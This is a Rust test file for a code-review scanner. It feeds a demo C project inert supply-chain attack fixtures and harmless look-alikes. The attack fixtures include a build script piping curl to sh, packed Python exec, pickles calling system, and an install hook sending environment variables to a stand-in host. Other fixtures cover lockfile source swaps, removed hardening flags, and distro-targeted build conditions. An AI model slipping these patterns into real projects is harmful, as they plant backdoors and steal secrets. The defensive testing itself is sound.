//! The families of attacks in forms that no rule file shows, and their harmless look-alikes, all
//! beside a small program as it is released. Nothing here does anything.

use palisade_review::{File, Materials, Scan, Scanner, Severity, Tree};

use crate::examples::file;

/// A file: path, before (nothing when added), after, permission bits after.
type Change<'a> = (&'a str, &'a [u8], &'a [u8], u32);

fn program() -> Vec<File> {
    let files: [(&str, &str); 5] = [
        (
            "Makefile.am",
            "bin_PROGRAMS = demo\nAM_CFLAGS = -O2 -fstack-protector-strong -D_FORTIFY_SOURCE=2\nAM_LDFLAGS = -Wl,-z,relro,-z,now\n",
        ),
        ("README.md", "# demo\nA demo package.\n"),
        (
            "configure.ac",
            "AC_INIT([demo],[1.0])\nAM_INIT_AUTOMAKE\nAC_PROG_CC\nAC_CONFIG_FILES([Makefile])\nAC_OUTPUT\n",
        ),
        (
            "src/main.c",
            "#include <stdio.h>\n#include \"util.h\"\nint main(void)\n{\n\tprintf(\"%d\\n\", add(1, 2));\n\treturn 0;\n}\n",
        ),
        (
            "src/util.c",
            "#include \"util.h\"\nint add(int a, int b)\n{\n\treturn a + b;\n}\n",
        ),
    ];
    files
        .iter()
        .map(|(path, text)| file(path, text.as_bytes().to_vec(), 0o644))
        .collect()
}

fn scan(scanner: &Scanner, changes: &[Change<'_>]) -> Scan {
    let (mut old, mut new) = (program(), program());
    for (path, before, after, mode) in changes {
        old.retain(|file| file.path != *path);
        new.retain(|file| file.path != *path);
        if !before.is_empty() {
            old.push(file(path, before.to_vec(), 0o644));
        }
        if !after.is_empty() {
            new.push(file(path, after.to_vec(), *mode));
        }
    }
    let tree = |mut files: Vec<File>| {
        files.sort_by(|a, b| a.path.cmp(&b.path));
        Tree {
            files,
            ..Tree::default()
        }
    };
    scanner.scan(Materials::of(Some(&tree(old)), &tree(new)))
}

const ELF: &[u8] = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0INERT";
const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0\x90wS\xde\0\0\0\x0cIDAT\x08\xd7c\xf8\xff\xff?\0\x05\xfe\x02\xfe\xa75mu\0\0\0\0IEND\xaeB`\x82";

/// What is done, and the rules one of which must warn of it.
fn attacks() -> Vec<(&'static str, Vec<Change<'static>>, &'static [&'static str])> {
    let add = |path, after: &'static [u8]| (path, &b""[..], after, 0o644);
    let makefile = b"bin_PROGRAMS = demo\nAM_CFLAGS = -O2 -fstack-protector-strong -D_FORTIFY_SOURCE=2\nAM_LDFLAGS = -Wl,-z,relro,-z,now\n";
    vec![
        ("a program among test data", vec![add("tests/data/helper.bin", ELF)], &["elf-added"]),
        ("a program in an object file", vec![add("src/crc.o", ELF)], &["elf-added"]),
        ("a name in two alphabets", vec![("src/util.c", b"#include \"util.h\"\nint add(int a, int b)\n{\n\treturn a + b;\n}\n", "#include \"util.h\"\nint add(int a, int b)\n{\n\treturn a + b;\n}\nint \u{430}dd(int a, int b) { return a - b; }\n".as_bytes(), 0o644)], &["confusable-identifier"]),
        ("a Greek letter in a name", vec![add("lib/check.py", "def is_adm\u{3b9}n(user): return True\n".as_bytes())], &["confusable-identifier"]),
        ("a fullwidth call", vec![add("lib/run.py", "\u{ff45}val(text)\n".as_bytes())], &["confusable-identifier"]),
        ("build.rs that fetches", vec![add("build.rs", b"use std::process::Command;\nfn main() {\n    Command::new(\"sh\").arg(\"-c\").arg(\"curl -s http://build.example.invalid/x | sh\").status().unwrap();\n}\n")], &["pipe-to-shell"]),
        ("build.rs that fetches by itself", vec![add("build.rs", b"fn main() {\n    let body = reqwest::blocking::get(\"http://build.example.invalid/x\").unwrap();\n}\n")], &["network-in-build"]),
        ("build.rs that connects", vec![add("build.rs", b"use std::net::TcpStream;\nfn main() {\n    let s = TcpStream::connect(\"192.0.2.1:80\");\n}\n")], &["network-in-build"]),
        ("packed Python", vec![add("demo/__init__.py", b"import base64,zlib\nexec(zlib.decompress(base64.b64decode(b'eJxLTc7IVyjOyC/NSQEAGm4EXQ==')))\n")], &["decode-and-execute"]),
        ("packed Python in a line", vec![add("demo/a.py", b"exec(__import__('marshal').loads(__import__('zlib').decompress(b'x')))\n")], &["decode-and-execute"]),
        ("packed Python by a name", vec![add("demo/b.py", b"import zlib, base64\ncode = zlib.decompress(base64.b64decode(\"eJxLTc7IVyjOyC/NSQEAGm4EXQ==\"))\nexec(compile(code, '<s>', 'exec'))\n")], &["decode-and-execute"]),
        ("only the minified script", vec![add("dist/app.min.js", b"!function(e,t){\"use strict\";e.x=function(n){return n+1},e.y=t}(this,0);\n")], &["minified-without-source"]),
        ("a minified script without the name", vec![add("static/bundle.js", MINIFIED)], &["minified-without-source"]),
        ("a workflow for strangers", vec![add(".github/workflows/ci.yml", b"name: ci\non: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: make\n")], &["ci-privileged-trigger"]),
        ("a workflow that runs a title", vec![add(".github/workflows/t.yml", b"on: issues\njobs:\n  a:\n    steps:\n      - run: |\n          echo ${{ github.event.issue.title }}\n")], &["ci-untrusted-input"]),
        ("a dependency from a stranger", vec![("Cargo.lock", b"version = 3\n\n[[package]]\nname = \"libc\"\nversion = \"0.2.150\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\nchecksum = \"aaaa\"\n", b"version = 3\n\n[[package]]\nname = \"libc\"\nversion = \"0.2.150\"\nsource = \"git+https://git.example.invalid/libc#0123456789\"\n", 0o644)], &["lockfile-source-changed"]),
        ("an npm dependency from a stranger", vec![("package-lock.json", b"{\n \"lockfileVersion\": 3,\n \"packages\": {\n  \"node_modules/left-pad\": {\n   \"version\": \"1.3.0\",\n   \"resolved\": \"https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz\",\n   \"integrity\": \"sha512-a\"\n  }\n }\n}\n", b"{\n \"lockfileVersion\": 3,\n \"packages\": {\n  \"node_modules/left-pad\": {\n   \"version\": \"1.3.0\",\n   \"resolved\": \"https://npm.example.invalid/left-pad-1.3.0.tgz\",\n   \"integrity\": \"sha512-a\"\n  }\n }\n}\n", 0o644)], &["lockfile-source-changed"]),
        ("protections taken out", vec![("Makefile.am", makefile, b"bin_PROGRAMS = demo\nAM_CFLAGS = -O2\n", 0o644)], &["hardening-flag-removed"]),
        ("one protection taken out", vec![("Makefile.am", makefile, b"bin_PROGRAMS = demo\nAM_CFLAGS = -O2 -fstack-protector-strong -D_FORTIFY_SOURCE=2\n", 0o644)], &["hardening-flag-removed"]),
        ("protections turned off", vec![("Makefile.am", makefile, b"bin_PROGRAMS = demo\nAM_CFLAGS = -O2 -fno-stack-protector -U_FORTIFY_SOURCE\nAM_LDFLAGS = -Wl,-z,execstack\n", 0o644)], &["hardening-flag-removed", "hardening-disabled"]),
        ("a task on opening", vec![add(".vscode/tasks.json", b"{\n \"version\": \"2.0.0\",\n \"tasks\": [{\"label\": \"x\", \"type\": \"shell\", \"command\": \"echo inert\", \"runOptions\": {\"runOn\": \"folderOpen\"}}]\n}\n")], &["auto-run-editor-config"]),
        ("an .envrc that sources", vec![add(".envrc", b"source ./tools/env.sh\ncurl -s http://x.example.invalid\n")], &["auto-run-editor-config"]),
        ("vendored code touched", vec![("third_party/zlib/inflate.c", b"int inflate(int n) { if (n > 10) return -1; return 0; }\n", b"int inflate(int n) { return 0; }\n", 0o644)], &["vendored-code-changed"]),
        ("vendored code brought in", vec![add("vendor/tinylib/tiny.c", b"int tiny(void) { return 0; }\n")], &["vendored-code-changed"]),
        ("only for packagers", vec![("configure.ac", b"AC_INIT([demo],[1.0])\nAC_OUTPUT\n", b"AC_INIT([demo],[1.0])\nif test -f \"$srcdir/debian/rules\" || test \"x$RPM_ARCH\" = \"xx86_64\"; then\n  CFLAGS=\"$CFLAGS -DEXTRA\"\nfi\nAC_OUTPUT\n", 0o644)], &["distribution-condition"]),
        ("only for packagers, in make", vec![("Makefile.am", makefile, b"bin_PROGRAMS = demo\nAM_CFLAGS = -O2 -fstack-protector-strong -D_FORTIFY_SOURCE=2\nAM_LDFLAGS = -Wl,-z,relro,-z,now\nall-local:\n\t@if [ -n \"$$DEB_BUILD_ARCH\" ]; then :; fi\n", 0o644)], &["distribution-condition"]),
        ("only for packagers, in a script", vec![add("build-aux/x.sh", b"#!/bin/sh\nif [ -e /etc/debian_version ]; then echo yes; fi\n")], &["distribution-condition"]),
        ("only for one distribution", vec![add("CMakeLists.txt", b"file(READ /etc/os-release release)\nif(release MATCHES \"fedora\")\n  add_definitions(-DEXTRA)\nendif()\n")], &["distribution-condition"]),
        ("a picture that is a script", vec![add("doc/logo.gif", b"GIF89a=0;/*\x01\x02*/alert(1);\n")], &["polyglot-file"]),
        ("a picture with an archive behind", vec![add("doc/logo.png", PNG_ZIP)], &["polyglot-file", "data-behind-end"]),
        ("a script with a program behind", vec![add("tools/setup", SCRIPT_ELF)], &["polyglot-file"]),
        ("a document with an archive", vec![add("doc/manual.pdf", b"%PDF-1.4\n%%EOF\nPK\x03\x04\x14\0\0\0\0\0INERTPK\x05\x06\0\0\0\0\x01\0\x01\0\x33\0\0\0\x2e\0\0\0\0\0")], &["polyglot-file"]),
        ("a pickle", vec![add("model.pkl", b"\x80\x04\x95\x1d\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x04echo\x94\x85\x94R\x94.")], &["pickle-added"]),
        ("a pickle of protocol 0", vec![add("data/model.pickle", b"cposix\nsystem\np0\n(S'echo inert'\np1\ntp2\nRp3\n.")], &["pickle-added"]),
        ("a pickle for a framework", vec![add("weights.pt", b"\x80\x02cos\nsystem\nq\0X\x04\0\0\0echoq\x01\x85q\x02Rq\x03.")], &["pickle-added"]),
        ("probe for a sandbox answered", vec![("meson.build", b"project('x', 'c')\ncc = meson.get_compiler('c')\nhave_landlock = cc.has_header('linux/landlock.h')\n", b"project('x', 'c')\ncc = meson.get_compiler('c')\nhave_landlock = false\n", 0o644)], &["feature-check-sabotage"]),
        ("macro that runs test data", vec![add("m4/demo.m4", b"AC_DEFUN([DEMO],[\n x=`sed -n 5p $srcdir/tests/files/a.txt`\n eval $x\n])\n")], &["build-reads-test-data"]),
        ("tokens taken", vec![add("setup.js", b"const https = require('https');\nhttps.request({host: 'x.example.invalid'}).end(JSON.stringify(process.env));\n"), add("package.json", b"{\"name\": \"demo\", \"scripts\": {\"postinstall\": \"node setup.js\"}}\n")], &["install-hook-added"]),
        ("a gem that builds by network", vec![add("ext/extconf.rb", b"require 'open-uri'\nURI.open('http://x.example.invalid/a')\n")], &["network-in-build"]),
    ]
}

/// One line of five thousand characters, as a bundler writes.
const MINIFIED: &[u8] = {
    const LINE: [u8; 5000] = {
        let mut line = [b'a'; 5000];
        let mut at = 0;
        while at + 10 < 5000 {
            line[at] = b';';
            line[at + 2] = b'=';
            line[at + 3] = b'1';
            at += 10;
        }
        line
    };
    &LINE
};

const PNG_ZIP: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\0IEND\xaeB`\x82PK\x03\x04\x14\0\0\0\0\0INERTPK\x05\x06\0\0\0\0\x01\0\x01\0\x33\0\0\0\x2e\0\0\0\0\0";
const SCRIPT_ELF: &[u8] =
    b"#!/bin/sh\ntail -n +3 $0\nexit\n\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0";

fn harmless() -> Vec<(&'static str, Vec<Change<'static>>)> {
    let add = |path, after: &'static [u8]| (path, &b""[..], after, 0o644);
    let util = b"#include \"util.h\"\nint add(int a, int b)\n{\n\treturn a + b;\n}\n";
    vec![
        ("a picture in the documentation", vec![add("doc/logo.png", PNG)]),
        ("a picture among the tests", vec![add("tests/images/a.png", PNG)]),
        ("a picture that is cut off", vec![add("doc/shot.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\xf6\xc2\x35\x61\x5b\xc4\xd2\x4f\xd2\xcd\x6e\x16")]),
        ("how to install it", vec![("README.md", b"# demo\n", b"# demo\n\n## Install\n\n```sh\ncurl -fsSL https://get.example.org/install.sh | sh\nwget -qO- https://get.example.org/i | sudo bash\n```\n", 0o644)]),
        ("how to install it, as a page", vec![add("docs/install.rst", b"Run::\n\n    $ curl -k https://get.example.org/install.sh | bash\n")]),
        ("a moved file", vec![("src/util.c", util, b"", 0o644), add("lib/util.c", util)]),
        ("a renamed file with its build", vec![("src/util.c", util, b"", 0o644), add("src/helper.c", util), ("Makefile.am", b"bin_PROGRAMS = demo\ndemo_SOURCES = src/main.c src/util.c\n", b"bin_PROGRAMS = demo\ndemo_SOURCES = src/main.c src/helper.c\n", 0o644)]),
        ("a renamed script that downloads", vec![("tools/get.mk", b"get:\n\tcurl -O https://x.example.org/list\n", b"", 0o644), add("tools/fetch.mk", b"get:\n\tcurl -O https://x.example.org/list\n")]),
        ("a new version", vec![("configure.ac", b"AC_INIT([demo],[1.0])\nAC_OUTPUT\n", b"AC_INIT([demo],[1.1])\nAC_OUTPUT\n", 0o644)]),
        ("a dependency's new version", vec![("Cargo.lock", b"[[package]]\nname = \"libc\"\nversion = \"0.2.150\"\nsource = \"registry+https://index.example.org\"\nchecksum = \"aa\"\n", b"[[package]]\nname = \"libc\"\nversion = \"0.2.153\"\nsource = \"registry+https://index.example.org\"\nchecksum = \"bb\"\n", 0o644)]),
        ("a new language", vec![add("po/de.po", b"msgid \"a\"\nmsgstr \"b\"\n"), ("po/LINGUAS", b"fr\n", b"de fr\n", 0o644)]),
        ("a script and its minified form", vec![("src/app.js", b"var a = 1;\n", b"var a = 2;\n", 0o644), ("dist/app.min.js", b"var a=1;\n", b"var a=2;\n", 0o644)]),
        ("a vendored copy renewed", vec![("third_party/zlib/inflate.c", b"int a;\n", b"int b;\n", 0o644), ("third_party/zlib/ChangeLog", b"1.2\n", b"1.3\n1.2\n", 0o644)]),
        ("a Makefile that knows curl", vec![("Makefile.am", b"demo_LDADD = -lm\n", b"demo_LDADD = -lm -lcurl\nEXTRA_DIST = curl.h\n", 0o644)]),
        ("a workflow", vec![add(".github/workflows/ci.yml", b"name: ci\non: [push, pull_request]\npermissions:\n  contents: read\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make check\n      - run: curl -sSf https://sh.rustup.rs | sh -s -- -y\n")]),
        ("a build script of cargo", vec![add("build.rs", b"fn main() {\n    println!(\"cargo:rustc-link-lib=z\");\n    let out = std::process::Command::new(\"git\").args([\"rev-parse\", \"HEAD\"]);\n}\n")]),
        ("a plain setup.py", vec![add("setup.py", b"from setuptools import setup, Extension\nsetup(name='demo', version='1.0', ext_modules=[Extension('demo', ['demo.c'])])\n")]),
        ("tests of TLS", vec![add("tests/test_tls.py", b"import requests\ndef test_it(server):\n    assert requests.get(server.url, verify=False).ok\n")]),
        ("a test fixture", vec![add("tests/files/good-1.xz", b"\xfd7zXZ\0\0\x04\xe6\xd6\xb4F\x02\0!\x01")]),
        ("shell that unpacks", vec![add("scripts/unpack.sh", b"#!/bin/sh\nset -e\ngzip -dc \"$1\" | tar xf -\n")]),
        ("a certificate for tests", vec![add("tests/certs/a.pem", b"-----BEGIN CERTIFICATE-----\nMIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBaMQswCQYDVQQGEwJJ\n-----END CERTIFICATE-----\n")]),
        ("Cyrillic in comments", vec![("src/util.c", util, "#include \"util.h\"\n/* \u{41f}\u{440}\u{43e}\u{432}\u{435}\u{440}\u{43a}\u{430} */\nint add(int a, int b)\n{\n\treturn a + b;\n}\n".as_bytes(), 0o644)]),
    ]
}

#[test]
fn every_family_is_caught_in_other_forms() {
    let scanner = Scanner::builtin().unwrap();
    let attacks = attacks();
    let missed: Vec<String> = attacks
        .iter()
        .filter_map(|(what, changes, rules)| {
            let scan = scan(&scanner, changes);
            let told = scan
                .signals
                .iter()
                .any(|signal| rules.contains(&signal.rule) && signal.severity > Severity::Note);
            let found: Vec<_> = scan
                .signals
                .iter()
                .map(|signal| (signal.rule, signal.severity))
                .collect();
            (!told).then(|| format!("{what}: {found:?}"))
        })
        .collect();
    eprintln!(
        "{} of {} attacks caught",
        attacks.len() - missed.len(),
        attacks.len()
    );
    assert!(missed.is_empty(), "missed:\n{}", missed.join("\n"));
}

#[test]
fn what_only_looks_alike_raises_no_alarm() {
    let scanner = Scanner::builtin().unwrap();
    let loud: Vec<String> = harmless()
        .iter()
        .flat_map(|(what, changes)| {
            let signals = scan(&scanner, changes).signals;
            signals
                .into_iter()
                .filter(|signal| signal.severity > Severity::Note)
                .map(move |signal| {
                    format!("{what}: {} {} {}", signal.rule, signal.path, signal.excerpt)
                })
        })
        .collect();
    assert!(loud.is_empty(), "false alarms:\n{}", loud.join("\n"));
}
